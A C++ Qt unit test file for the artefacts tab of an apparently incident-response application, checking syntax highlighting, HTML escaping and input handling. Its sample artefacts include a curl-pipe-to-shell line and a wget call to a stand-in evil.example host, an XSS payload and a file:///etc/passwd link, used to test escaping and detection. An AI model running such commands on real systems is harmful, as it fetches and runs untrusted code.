#include "IncidentTabFixture.h"

#include "common/HighlightedTextViewer.h"
#include "incidents/Artefacts.h"
#include "incidents/ArtefactsTab.h"

#include <QComboBox>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTreeWidget>

using namespace csirtkit;

class TestArtefactsTab : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { fixtures::IncidentTabFixture::initTestCase(); }
    void init();
    void cleanup();

    void emptyStateAndSyntaxChoices();
    void pythonSnippetGetsPythonSyntax();
    void userChosenSyntaxWins();
    void userTextIsNeverMarkup();
    void badInputWritesNothing();
    void removeAsksFirst();

private:
    template<typename T>
    T *find(const QString &name) const
    {
        auto *widget = tab->findChild<T *>(name);
        if (!widget)
            qFatal("no widget %s", qPrintable(name));
        return widget;
    }
    QList<Artefact> artefacts() const { return Artefacts(f.workspace()).list(f.first).value(); }
    void add(const QString &title, const QString &content)
    {
        find<QLineEdit>(QStringLiteral("artefactTitleLineEdit"))->setText(title);
        find<QPlainTextEdit>(QStringLiteral("artefactContentEdit"))->setPlainText(content);
        find<QPushButton>(QStringLiteral("addArtefactButton"))->click();
    }

    fixtures::IncidentTabFixture f;
    std::unique_ptr<ArtefactsTab> tab;
};

void TestArtefactsTab::init()
{
    f.init();
    tab = std::make_unique<ArtefactsTab>();
    tab->setIncident(f.session.get(), f.first);
    tab->show();
}

void TestArtefactsTab::cleanup()
{
    tab.reset();
    f.cleanup();
}

void TestArtefactsTab::emptyStateAndSyntaxChoices()
{
    QCOMPARE(tab->title(), QStringLiteral("Artefacts (0)"));
    QCOMPARE(find<QTreeWidget>(QStringLiteral("artefactsView"))->topLevelItemCount(), 0);
    auto *combo = find<QComboBox>(QStringLiteral("artefactSyntaxComboBox"));
    QCOMPARE(combo->itemText(0), QStringLiteral("Automatic"));
    QVERIFY(combo->count() > 100);
    QVERIFY(combo->findData(QStringLiteral("Python")) > 0);
    QVERIFY(combo->findData(QStringLiteral("Email")) > 0);
    for (int i = 2; i < combo->count(); ++i) // sorted by the names shown
        QVERIFY2(QString::localeAwareCompare(combo->itemText(i - 1), combo->itemText(i)) <= 0, qPrintable(combo->itemText(i)));
    QVERIFY(!find<QPushButton>(QStringLiteral("removeArtefactButton"))->isEnabled());
}

void TestArtefactsTab::pythonSnippetGetsPythonSyntax()
{
    QSignalSpy changed(f.session.get(), &WorkspaceSession::changed);
    find<QLineEdit>(QStringLiteral("artefactTitleLineEdit"))->setText(QStringLiteral("x.py"));
    QCOMPARE(find<QComboBox>(QStringLiteral("artefactSyntaxComboBox"))->itemText(0), QStringLiteral("Automatic (Python)"));
    add(QStringLiteral("x.py"), QStringLiteral("import os\nos.system('curl http://evil.example | sh')\n"));
    QCOMPARE(MessageBox::shownCount(), 0);
    const auto list = artefacts();
    QCOMPARE(list.size(), 1);
    QCOMPARE(list.first().syntax, QStringLiteral("Python"));
    QCOMPARE(list.first().author, QStringLiteral("Aiko Tanaka"));
    QCOMPARE(changed.size(), 1);
    auto *view = find<QTreeWidget>(QStringLiteral("artefactsView"));
    QCOMPARE(view->topLevelItemCount(), 1);
    QCOMPARE(view->topLevelItem(0)->text(0), QStringLiteral("x.py"));
    QCOMPARE(view->topLevelItem(0)->text(1), QStringLiteral("Python"));
    QVERIFY(view->topLevelItem(0)->isSelected()); // the new one is shown
    auto *viewer = find<HighlightedTextViewer>(QStringLiteral("artefactViewer"));
    QCOMPARE(viewer->definitionName(), QStringLiteral("Python"));
    QVERIFY(viewer->toPlainText().contains(QStringLiteral("os.system")));
    QCOMPARE(tab->title(), QStringLiteral("Artefacts (1)"));
    QVERIFY(find<QLineEdit>(QStringLiteral("artefactTitleLineEdit"))->text().isEmpty());

    // Content decides when the title is no file name; plain text clears the previous highlighting.
    add(QStringLiteral("Dropper found on the clerk's PC"), QStringLiteral("#!/bin/sh\nwget http://evil.example/x\n"));
    QCOMPARE(artefacts().last().syntax, QStringLiteral("Bash"));
    add(QStringLiteral("Notes from the call"), QStringLiteral("Caller saw a red screen at 10:05."));
    QCOMPARE(artefacts().last().syntax, QString());
    QCOMPARE(view->topLevelItem(2)->text(1), QStringLiteral("Plain text"));
    QCOMPARE(viewer->definitionName(), QString());
    view->setCurrentItem(view->topLevelItem(0));
    QCOMPARE(viewer->definitionName(), QStringLiteral("Python"));
}

void TestArtefactsTab::userChosenSyntaxWins()
{
    auto *combo = find<QComboBox>(QStringLiteral("artefactSyntaxComboBox"));
    combo->setCurrentIndex(combo->findData(QStringLiteral("Email")));
    add(QStringLiteral("x.py"), QStringLiteral("Received: from mail.evil.example\nSubject: Invoice\n"));
    QCOMPARE(artefacts().first().syntax, QStringLiteral("Email"));
    QCOMPARE(combo->currentIndex(), 0); // back to Automatic for the next one
    QCOMPARE(find<HighlightedTextViewer>(QStringLiteral("artefactViewer"))->definitionName(), QStringLiteral("Email"));
}

void TestArtefactsTab::userTextIsNeverMarkup()
{
    const QString img = QStringLiteral("<img src=x onerror=alert(1)>");
    const QString link = QStringLiteral("<a href=\"file:///etc/passwd\">x</a>");
    add(QStringLiteral("<b>page.html</b>"), img + QLatin1Char('\n') + link + QLatin1Char('\n'));
    QCOMPARE(artefacts().size(), 1);
    auto *viewer = find<HighlightedTextViewer>(QStringLiteral("artefactViewer"));
    QVERIFY(viewer->toPlainText().contains(img));
    QVERIFY(viewer->toPlainText().contains(link));
    const QString html = viewer->document()->toHtml();
    QVERIFY(html.contains(QStringLiteral("&lt;img")));
    QVERIFY(html.contains(QStringLiteral("&lt;a href=")));
    QVERIFY(!html.contains(QStringLiteral("<img")));
    QVERIFY(!html.contains(QStringLiteral("<a ")));
    auto *row = find<QTreeWidget>(QStringLiteral("artefactsView"))->topLevelItem(0);
    QCOMPARE(row->text(0), QStringLiteral("<b>page.html</b>"));
    QVERIFY(row->toolTip(0).contains(QStringLiteral("&lt;b&gt;")));
}

void TestArtefactsTab::badInputWritesNothing()
{
    add(QString(), QStringLiteral("some log"));
    QVERIFY(MessageBox::lastText().contains(QStringLiteral("title")));
    add(QStringLiteral("proxy.log"), QString());
    QVERIFY(MessageBox::lastText().contains(QStringLiteral("empty")));
    QCOMPARE(MessageBox::shownCount(), 2);
    QVERIFY(artefacts().isEmpty());
    QCOMPARE(find<QLineEdit>(QStringLiteral("artefactTitleLineEdit"))->text(), QStringLiteral("proxy.log")); // kept
    tab->setIncident(f.session.get(), f.first);
    QCOMPARE(find<QLineEdit>(QStringLiteral("artefactTitleLineEdit"))->text(), QStringLiteral("proxy.log"));
}

void TestArtefactsTab::removeAsksFirst()
{
    add(QStringLiteral("proxy.log"), QStringLiteral("10:00 GET http://evil.example/\n"));
    add(QStringLiteral("headers.eml"), QStringLiteral("Received: from evil\n"));
    auto *view = find<QTreeWidget>(QStringLiteral("artefactsView"));
    view->setCurrentItem(view->topLevelItem(0));
    auto *remove = find<QPushButton>(QStringLiteral("removeArtefactButton"));
    QVERIFY(remove->isEnabled());
    MessageBox::setNextAnswer(QMessageBox::No);
    remove->click();
    QVERIFY(MessageBox::lastText().contains(QStringLiteral("proxy.log")));
    QCOMPARE(artefacts().size(), 2);
    MessageBox::setNextAnswer(QMessageBox::Yes);
    remove->click();
    QCOMPARE(artefacts().size(), 1);
    QCOMPARE(artefacts().first().title, QStringLiteral("headers.eml"));
    QCOMPARE(view->topLevelItemCount(), 1);
    QCOMPARE(tab->title(), QStringLiteral("Artefacts (1)"));
    QVERIFY(!remove->isEnabled()); // the removed one was selected; nothing is now
}

QTEST_MAIN(TestArtefactsTab)
#include "tst_artefactstab.moc"
